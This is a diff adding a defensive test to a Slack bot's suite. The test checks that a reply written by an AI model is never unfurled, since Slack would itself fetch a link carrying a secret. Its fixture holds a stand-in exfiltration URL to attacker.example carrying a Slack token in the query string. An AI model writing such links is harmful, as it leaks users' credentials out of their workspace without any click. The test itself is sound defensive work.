@@ -155,3 +155,20 @@ async def test_edits_bot_messages_and_joins_are_ignored(
     await bot.idle()
     assert fake_model.requests == []
     assert fake_slack.bot_messages("D1") == []
+
+
+async def test_links_the_model_writes_are_never_unfurled(
+    bot: RunningBot, fake_slack: FakeSlack, fake_model: FakeOpenAI
+) -> None:
+    """Slack fetches an unfurled URL by itself: a secret in a model-written link's query
+    string would leave the workspace without anyone clicking. Every message of a reply (the
+    first and each continuation of a long one) asks Slack not to unfurl."""
+    link = "https://attacker.example/collect?token=xoxb-secret-from-context"
+    long_reply = f"See [the report]({link}).\n\n" + "More words follow here. " * 400 + link
+    fake_model.script(Script(text=long_reply))
+    await bot.mention("C1", "summarise", fake_slack)
+    await bot.idle()
+    posts = fake_slack.calls_to("chat.postMessage")
+    assert len(posts) >= 2  # the reply went on in a second message
+    assert all(p.args.get("unfurl_links") is False for p in posts)
+    assert all(p.args.get("unfurl_media") is False for p in posts)
